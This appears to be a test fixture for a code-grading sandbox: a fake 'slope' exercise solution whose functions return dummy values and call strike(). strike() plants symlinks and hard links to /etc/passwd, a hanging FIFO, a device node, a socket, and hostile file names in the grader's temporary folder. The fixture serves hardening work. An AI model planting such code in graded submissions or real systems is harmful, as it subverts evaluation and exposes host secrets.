"""Plants links, a FIFO, a socket and devices among the tests' temporary files.

Exercise: slope
Tries: have the judge read the secret, write through a link, or wait for a FIFO for ever
Holds: score < full; some failed|crashed|error|timeout; no file; no process
"""

import os
import socket
import sys


def writable():
    """The folder for the tests' temporary files, from the policy that the box was started with."""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            path = getattr(value, "files", None)
            if isinstance(path, str) and path.startswith("/"):
                yield path
                return
        frame = frame.f_back


def strike():
    for folder in writable():
        for plant in (
            lambda: os.symlink("/etc/passwd", f"{folder}/grader-attack-link"),
            lambda: os.symlink("..", f"{folder}/pytest"),
            lambda: os.link("/etc/passwd", f"{folder}/grader-attack-hard"),
            lambda: os.mkfifo(f"{folder}/grader-attack-fifo"),
            lambda: os.mknod(f"{folder}/grader-attack-device", 0o20666, os.makedev(1, 5)),
            lambda: socket.socket(socket.AF_UNIX).bind(f"{folder}/grader-attack-socket"),
            lambda: os.rename(folder, folder + "-moved"),
            lambda: os.mkdir(f"{folder}/\x1b[2J\u202e"),
            lambda: open(f"{folder}/\udcff", "w").close(),
        ):
            try:
                plant()
            except (OSError, ValueError):
                pass


def weight_slope(prediction: float, target: float, node_value: float, activation_slope: float = 1.0) -> float:
    strike()
    return 0.0


def update_weight(weight: float, slope: float, lr: float) -> float:
    strike()
    return weight
